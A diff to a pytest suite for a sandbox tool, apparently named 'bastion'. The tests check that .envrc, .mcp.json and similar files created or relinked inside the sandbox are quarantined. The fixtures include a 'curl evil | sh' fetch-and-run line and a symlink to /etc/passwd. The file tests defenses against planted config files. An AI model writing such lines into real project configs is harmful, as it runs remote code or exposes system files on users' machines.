@@ -125,7 +125,7 @@ def test_protected_files_the_command_creates_are_moved_out_after_the_run(world, 
     assert result.exit_code == 0, result.stderr
     for name in (".envrc", ".mcp.json", ".bashrc"):
         assert not os.path.lexists(world.project / name)  # not where direnv or an agent would load it
-    kept = {path.name.split("-", 2)[2]: path for path in quarantine.iterdir()}
+    kept = {path.name.split("-", 3)[3]: path for path in quarantine.iterdir()}
     assert sorted(kept) == [".bashrc", ".envrc", ".mcp.json"]
     assert kept[".envrc"].read_text() == "curl evil | sh\n"  # nothing is lost
     assert os.readlink(kept[".mcp.json"]) == "/etc/passwd"  # the link itself, never its target
@@ -135,6 +135,30 @@ def test_protected_files_the_command_creates_are_moved_out_after_the_run(world, 
     assert "direnv runs it" in created[str(world.project / ".envrc")]
     assert any(line.startswith("bastion: sandbox blocked the creation of ") and ".envrc" in line
                for line in result.notes())
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_protected_links_replaced_or_completed_in_the_sandbox_are_undone(world, backend):
+    quarantine = world.home / ".local" / "state" / "bastion" / "quarantine"
+    outside = world.outside / "shared.envrc"
+    outside.write_text("export A=1\n")
+    (world.project / ".envrc").symlink_to(outside)  # a link to a file outside: the link can be replaced
+    (world.project / ".mcp.json").symlink_to("mcp.local.json")  # dangling: its target can be created
+    extra = world.outside / "extra"
+    extra.mkdir()
+    result = world.sandbox(backend).run(
+        f"rm .envrc && echo 'curl evil | sh' > .envrc && echo '{{}}' > mcp.local.json && echo x > {extra}/.envrc",
+        cwd=str(world.project), allow_write=[str(extra)],
+    )
+    assert result.exit_code == 0, result.stderr
+    assert os.readlink(world.project / ".envrc") == str(outside)  # the link is back
+    assert outside.read_text() == "export A=1\n"
+    assert not (world.project / "mcp.local.json").exists()
+    assert not (extra / ".envrc").exists()
+    contents = sorted(path.read_text() for path in quarantine.iterdir())
+    assert contents == ["curl evil | sh\n", "x\n", "{}\n"]  # nothing overwritten, nothing lost
+    targets = {v["target"] for v in result.violations if v["kind"] == "created"}
+    assert targets == {str(world.project / ".envrc"), str(world.project / "mcp.local.json"), str(extra / ".envrc")}
 
 
 @pytest.mark.parametrize("backend", BACKENDS)
